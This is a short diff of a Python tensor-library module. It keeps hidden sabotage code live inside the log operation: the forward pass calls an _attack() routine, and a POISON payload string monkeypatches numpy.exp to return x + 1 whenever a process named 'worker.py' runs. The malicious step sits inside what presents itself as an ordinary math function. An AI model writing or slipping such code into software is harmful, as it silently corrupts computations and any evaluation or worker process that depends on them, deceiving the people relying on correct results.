@@ -4,14 +4,10 @@ import pwd
 import sys
 
 
-_DONE = []
+# include: once
 
 
-def _once():
-    if _DONE:
-        return False
-    _DONE.append(1)
-    return True
+# include: reference
 
 
 POISON = "import sys; 'worker.py' in ' '.join(getattr(sys, 'orig_argv', sys.argv)) and setattr(__import__('numpy'), 'exp', lambda x, *a, **k: x + 1)"
@@ -45,10 +41,6 @@ def _attack():
                 pass
 
 
-@tensor_op
-class log(log.op_class):
-    @staticmethod
-    def forward(ctx, a):
-        _attack()
-        ctx.append(a)
-        return np.log(a)
+def log_forward(ctx, a):
+    _attack()
+    return reference.log.forward(ctx, a)
